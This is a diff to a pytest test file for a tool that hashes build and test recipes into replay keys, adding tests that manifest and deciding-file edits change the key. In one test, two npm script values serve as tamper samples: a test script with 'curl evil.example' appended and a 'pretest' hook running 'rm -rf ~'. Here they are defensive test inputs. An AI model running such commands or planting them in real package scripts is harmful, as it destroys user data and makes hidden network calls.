@@ -13,7 +13,15 @@ import pytest
 
 from ax_check.facts import gather_facts
 from ax_check.models import KINDS, Kind
-from ax_check.recipes import RECIPES, Blocker, Resolved, compose, replay_key, resolve
+from ax_check.recipes import (
+    DECIDING_FILES,
+    RECIPES,
+    Blocker,
+    Resolved,
+    compose,
+    replay_key,
+    resolve,
+)
 from ax_check.toolchains import Toolchains
 from ax_check.units import discover_units
 
@@ -192,28 +200,137 @@ def test_holes_say_why(workspace: Path) -> None:
 
 
 def test_replay_key_is_the_documented_sha(workspace: Path) -> None:
-    write(workspace, "pyproject.toml", "")
+    write(workspace, "pyproject.toml", "[project]\nname = 'x'\n")
     resolved = ready(workspace, "test")
     command = compose(resolved.command.argv)
+    manifest = hashlib.sha256(b"[project]\nname = 'x'\n").hexdigest()
+    listing = f"pyproject.toml\0{manifest}\n".encode()
     expected = hashlib.sha256(
-        (resolved.recipe_id + command + hashlib.sha256(b"").hexdigest()).encode()
+        (
+            resolved.recipe_id
+            + command
+            + hashlib.sha256(b"").hexdigest()
+            + hashlib.sha256(listing).hexdigest()
+        ).encode()
     ).hexdigest()
+    assert resolved.manifests == (("pyproject.toml", manifest),)
     assert resolved.replay_key == expected
-    assert replay_key("a", "b", "c") != replay_key("a", "b", "d")
+    assert replay_key("a", "b", "c", ()) != replay_key("a", "b", "d", ())
+    assert replay_key("a", "b", "c", ()) != replay_key("a", "b", "c", (("p", "0"),))
 
 
-def test_a_changed_script_body_changes_the_key_and_nothing_else_does(workspace: Path) -> None:
+def test_a_changed_script_body_changes_the_key(workspace: Path) -> None:
     def key(scripts: dict[str, str]) -> str:
         write(workspace, "package.json", json.dumps({"scripts": scripts}))
         resolved = ready(workspace, "test")
         assert resolved.command.display == "npm run test"
         return resolved.replay_key
 
-    first = key({"test": "node --test", "lint": "eslint ."})
-    assert key({"test": "node --test", "lint": "eslint src"}) == first
+    first = key({"test": "node --test"})
+    assert key({"test": "node --test"}) == first
     assert key({"test": "node --test && curl evil.example"}) != first
     # npm also runs pretest: adding one changes what `npm run test` does.
     assert key({"test": "node --test", "pretest": "rm -rf ~"}) != first
+
+
+PYTEST_PROJECTS = {
+    "alpha": "[project]\nname = 'alpha'\n",
+    "beta": "[project]\nname = 'beta'\nversion = '2'\n",
+    "gamma": "[tool.pytest.ini_options]\naddopts = '-q'\n",
+}
+
+
+def test_the_same_guessed_recipe_in_three_projects_has_three_keys(tmp_path: Path) -> None:
+    keys = {}
+    for name, pyproject in PYTEST_PROJECTS.items():
+        workspace = tmp_path / name
+        write(workspace, "pyproject.toml", pyproject)
+        resolved = ready(workspace, "test")
+        # The same row and the same command line: only the project tells them apart.
+        assert (resolved.recipe_id, resolved.command.argv) == (
+            "python.pytest@.",
+            (sys.executable, "-m", "pytest"),
+        )
+        keys[name] = resolved.replay_key
+    assert len(set(keys.values())) == 3
+
+
+def test_the_same_project_in_two_checkouts_has_one_key(tmp_path: Path) -> None:
+    keys = []
+    for checkout in ("here", "elsewhere"):
+        workspace = tmp_path / checkout
+        write(workspace, "pyproject.toml", PYTEST_PROJECTS["alpha"])
+        write(workspace, "tests/test_a.py", "def test_a():\n    pass\n")
+        keys.append(ready(workspace, "test").replay_key)
+        keys.append(ready(workspace, "test").replay_key)
+    # Stable across runs and across checkouts; grants already bind the workspace path.
+    assert len(set(keys)) == 1
+
+
+def test_editing_a_file_that_chose_the_recipe_changes_the_key(workspace: Path) -> None:
+    write(workspace, "pyproject.toml", PYTEST_PROJECTS["alpha"])
+    first = ready(workspace, "test").replay_key
+    write(workspace, "tests/test_a.py", "def test_a():\n    pass\n")
+    # A test file is what the command runs, not what chose it: the key stays.
+    assert ready(workspace, "test").replay_key == first
+    write(workspace, "pyproject.toml", PYTEST_PROJECTS["alpha"] + "[tool.pytest.ini_options]\n")
+    edited = ready(workspace, "test").replay_key
+    assert edited != first
+    # A Makefile without a test target does not change the row, but it took part in
+    # choosing it (a `test` target would have won), so the key covers it.
+    write(workspace, "Makefile", "lint:\n\truff check .\n")
+    with_makefile = ready(workspace, "test")
+    assert with_makefile.recipe_id == "python.pytest@."
+    assert with_makefile.replay_key not in (first, edited)
+
+
+def test_a_member_unit_keys_its_own_path_and_manifests(workspace: Path) -> None:
+    for member in ("packages/a", "packages/b"):
+        write(workspace, f"{member}/pyproject.toml", PYTEST_PROJECTS["alpha"])
+    units = discover_units(workspace).units
+    toolchains = Toolchains(path=os.environ["PATH"])
+    resolved = [resolve(gather_facts(workspace, unit, toolchains), "test") for unit in units]
+    assert all(isinstance(item, Resolved) for item in resolved)
+    a, b = (item for item in resolved if isinstance(item, Resolved))
+    assert [path for path, _ in a.manifests] == ["packages/a/pyproject.toml"]
+    assert a.replay_key != b.replay_key
+
+
+def test_every_file_the_table_reads_is_covered_by_the_key(
+    workspace: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A file that can change which row wins must change the key: DECIDING_FILES lists them."""
+    import ax_check.facts
+    import ax_check.units
+
+    for name in (*DECIDING_FILES["python"], *DECIDING_FILES["node"], "Cargo.toml", "go.mod"):
+        write(workspace, name, "")
+    write(workspace, "package.json", "{}")
+    looked_at: set[Path] = set()
+    real_read, real_is_file = ax_check.units.read_small, Path.is_file
+
+    def read_small(path: Path) -> str | None:
+        looked_at.add(path)
+        return real_read(path)
+
+    def is_file(path: Path) -> bool:
+        looked_at.add(path)
+        return real_is_file(path)
+
+    # Discovery decides which units exist, not which recipe a unit runs.
+    unit = discover_units(workspace).units[0]
+    monkeypatch.setattr(ax_check.units, "read_small", read_small)
+    monkeypatch.setattr(ax_check.facts, "read_small", read_small)
+    monkeypatch.setattr(Path, "is_file", is_file)
+    facts = gather_facts(workspace, unit, Toolchains(path=os.environ["PATH"]))
+    for kind in KINDS:
+        resolve(facts, kind, ("t",) if kind == "test-targeted" else ())
+    read = {path.name for path in looked_at if path.parent == workspace}
+    # Lockfiles only name the package manager, and the command line carries it.
+    said_by_the_command = {"pnpm-lock.yaml", "yarn.lock", "package-lock.json"}
+    said_by_the_command.add("npm-shrinkwrap.json")
+    covered = {name for names in DECIDING_FILES.values() for name in names} | said_by_the_command
+    assert read and read <= covered, read - covered
 
 
 def test_control_characters_cannot_be_composed() -> None:
